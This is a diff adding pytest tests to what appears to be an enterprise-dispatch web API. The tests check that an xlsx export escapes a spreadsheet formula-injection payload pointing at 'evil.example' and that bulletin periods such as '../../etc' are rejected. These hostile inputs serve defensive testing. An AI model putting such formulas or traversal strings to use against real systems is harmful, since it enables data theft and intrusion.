@@ -149,3 +149,43 @@ def test_an_attachment_is_never_overwritten(app, client, tokens):
     got = client.get(f"/api/dispatch/appeals/{code}/attachments/说明.txt", headers=ent)
     assert got.content.decode() == "企业原件"
     assert [e.action for e in audit_rows(app, "appeal_attachment")] == ["appeal_attachment"] * 2
+
+
+def test_whitelist_export_writes_enterprise_text_as_text(app, client, tokens):
+    import io
+
+    from openpyxl import load_workbook
+
+    ent = bearer(tokens["ent_a"])
+    payload = {**WL, "reason": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'}
+    assert client.post("/api/dispatch/whitelist", json=payload, headers=ent).status_code == 201
+    r = client.get("/api/dispatch/whitelist.xlsx", headers=bearer(tokens["gz_officer"]))
+    ws = load_workbook(io.BytesIO(r.content))["全部"]
+    reason = ws.cell(row=2, column=5)
+    assert reason.data_type == "s" and reason.value == "'" + payload["reason"]
+    assert [e.action for e in audit_rows(app, "export")] == ["export"]
+
+
+def test_key_enterprise_and_project_changes_are_audited(app, client, tokens):
+    gz = bearer(tokens["gz_officer"])
+    assert client.post("/api/dispatch/key-enterprises", json={"uscc": USCC_A, "frequency": "周"}, headers=gz).status_code == 201
+    p = {"code": "GZ-001", "name": "新能源电池项目", "region": "440106", "industry": "38", "planned_investment": 50,
+         "planned_start": "2022-01-01", "planned_finish": "2023-06-30"}
+    assert client.post("/api/dispatch/projects", json=p, headers=gz).status_code == 201
+    assert client.post("/api/dispatch/projects/GZ-001/progress", json={"period": "2022-06", "invest_cum": 5.0},
+                       headers=gz).status_code == 200
+    bad = client.post("/api/dispatch/projects/GZ-001/progress", json={"period": "2022-07", "invest_cum": "Infinity"},
+                      headers=gz)
+    assert bad.status_code == 422
+    actions = [e.action for e in audit_rows(app)]
+    assert {"key_register", "project_register", "project_progress"} <= set(actions)
+    assert actions.count("project_progress") == 1  # the refused value changed nothing
+
+
+def test_bulletin_period_is_validated_before_any_directory_is_made(app, client, tokens):
+    root = app.state.yacang.output_dir / "web-bulletins"
+    for period in ("../../etc", "2022-13", "2022Q1"):
+        r = client.post("/api/bulletins", json={"period": period, "region": "440000", "formats": ["html"]},
+                        headers=bearer(tokens["gd_officer"]))
+        assert r.status_code == 422, r.text
+    assert not root.exists() or not any(root.rglob("*"))
